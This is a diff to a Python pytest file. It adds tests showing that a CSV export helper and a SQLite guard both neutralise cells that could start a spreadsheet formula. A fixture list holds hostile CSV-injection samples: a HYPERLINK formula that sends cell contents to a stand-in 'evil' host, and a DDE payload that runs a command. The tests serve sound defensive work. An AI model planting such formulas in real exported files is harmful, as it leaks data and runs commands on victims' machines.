@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 import planx
-from load.safety import OutputError, neutralise_formula
+from load.safety import OutputError, csv_row, neutralise_formula, register_sql, sql_guard
 
 HOSTILE = ["=HYPERLINK(\"http://evil/\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1"]
 OUTPUTS = {"documents.csv", "actions.csv", "milestones.csv", "ratings.csv", "indicators.csv", "leftovers.csv",
@@ -20,6 +20,28 @@ OUTPUTS = {"documents.csv", "actions.csv", "milestones.csv", "ratings.csv", "ind
 @pytest.mark.parametrize("value", ["\tplain", "\rplain", " =1", "\n=1", "\t\t@x", "\r\n+x"])
 def test_tab_and_cr_variants_are_neutralised(value):
     assert neutralise_formula(value) == "'" + value
+
+
+def test_csv_row_checks_every_character_a_formula_can_start_with():
+    """csv_row skips the regex for cells whose first character cannot start a formula:
+    that shortcut must agree with neutralise_formula for every character."""
+    for code in [*range(0x3000), *range(0xFF00, 0xFF70)]:
+        value = chr(code) + "SUM(A1)"
+        assert csv_row([value]) == [neutralise_formula(value)], repr(chr(code))
+    assert csv_row([None, 3, 2.5, "=1+1", "plain"]) == ["", 3, 2.5, "'=1+1", "plain"]
+
+
+def test_sql_guard_neutralises_like_the_python_rule():
+    """export_csv neutralises in SQL: the same answer as neutralise_formula for every start."""
+    con = sqlite3.connect(":memory:")
+    register_sql(con)
+    con.execute("CREATE TABLE t (v TEXT, n INTEGER)")
+    values = [chr(c) + "SUM(A1)" for c in [*range(1, 0x3000), *range(0xFF00, 0xFF70)] if not 0xD800 <= c < 0xE000]
+    values += ["-27%", "+5", " =1", "\n=1", ""]
+    con.executemany("INSERT INTO t VALUES (?, -3)", [(v,) for v in values])
+    got = con.execute(f"SELECT {sql_guard('v', 'TEXT')}, {sql_guard('n', 'INTEGER')} FROM t").fetchall()
+    assert [g[0] for g in got] == [neutralise_formula(v) for v in values]
+    assert {g[1] for g in got} == {-3}
 
 
 def _plan(folder: Path) -> Path:
